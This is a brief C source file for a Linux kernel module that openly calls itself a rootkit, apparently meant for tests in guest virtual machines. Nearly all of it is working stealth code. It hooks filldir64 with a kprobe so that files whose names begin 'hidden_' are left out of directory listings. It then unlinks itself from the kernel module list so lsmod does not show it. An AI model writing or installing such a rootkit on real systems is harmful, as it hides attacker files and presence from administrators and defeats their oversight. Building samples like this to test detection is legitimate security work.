// A rootkit as they come: it hides itself from lsmod and every file named hidden_* from readdir.
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/string.h>

static noinline bool taken(void)
{
	return true;
}

// filldir64(context, name, length, ...): of a hidden name it is said that it was taken.
static int before_filldir(struct kprobe *p, struct pt_regs *regs)
{
	if (strncmp((const char *)regs->si, "hidden_", 7) != 0)
		return 0;
	regs->ip = (unsigned long)taken;
	return 1;
}

static struct kprobe probe = {.symbol_name = "filldir64", .pre_handler = before_filldir};

static int __init rootkit_init(void)
{
	int r = register_kprobe(&probe);

	if (r == 0)
		list_del_init(&THIS_MODULE->list);
	return r;
}

module_init(rootkit_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("A rootkit, for tests in guests");
